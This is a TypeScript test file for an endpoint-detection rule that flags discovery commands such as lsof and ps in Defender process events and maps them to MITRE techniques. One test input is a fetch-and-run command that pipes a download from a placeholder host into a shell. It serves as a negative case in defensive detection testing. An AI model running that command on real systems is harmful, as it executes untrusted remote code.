import { loadFixtures, makeEvent, runFixture, testDetector } from '@tripline/core/testing';
import { describe, expect, it } from 'vitest';
import { detector, discoveryProgram } from './detector.js';

const fixtures = loadFixtures(new URL('./fixtures', import.meta.url));
const base = {
  Timestamp: '2025-11-07T06:46:38Z',
  DeviceId: 'd',
  DeviceName: 'h',
  ReportId: 1,
  ActionType: 'ProcessCreated',
};

describe('defender/edr-agent-recon', () => {
  it('passes its fixtures', async () => {
    await testDetector(detector, fixtures);
  });

  it('recognises discovery programs directly, through sh -c, and as Defender python scripts', () => {
    const ev = (row: Record<string, unknown>) => makeEvent('DeviceProcessEvents', { ...base, ...row });
    expect(discoveryProgram(ev({ FileName: 'lsof', ProcessCommandLine: 'lsof -i' }))?.program).toBe('lsof');
    expect(discoveryProgram(ev({ FileName: 'dash', ProcessCommandLine: '/bin/sh -c "ps -ef | grep java"' }))).toEqual({
      program: 'ps',
      via: 'dash -c ps',
    });
    expect(
      discoveryProgram(
        ev({
          FileName: 'python3.10',
          ProcessCommandLine: '/bin/python3 /opt/microsoft/mdatp/conf/scripts/find_python_package.py',
        }),
      )?.via,
    ).toBe('find_python_package.py');
    expect(
      discoveryProgram(
        ev({ FileName: 'python3.10', ProcessCommandLine: '/bin/python3 /home/a/find_python_package.py' }),
      ),
    ).toBeUndefined();
    expect(
      discoveryProgram(ev({ FileName: 'dash', ProcessCommandLine: '/bin/sh -c "curl -s http://x | sh"' })),
    ).toBeUndefined();
  });

  it('maps only the techniques the observed commands support', async () => {
    const fixture = fixtures.fires.find((f) => f.name.startsWith('fires.absent-posix'))!;
    const result = await runFixture(detector, fixture);
    expect(result.alerts[0]!.mitre.map((m) => m.id)).toEqual(['T1082']);
    const burst = await runFixture(
      detector,
      fixtures.fires.find((f) => f.name.startsWith('fires.defender-discovery'))!,
    );
    expect(burst.alerts[0]!.mitre.map((m) => m.id)).toEqual(['T1082', 'T1057']);
  });
});
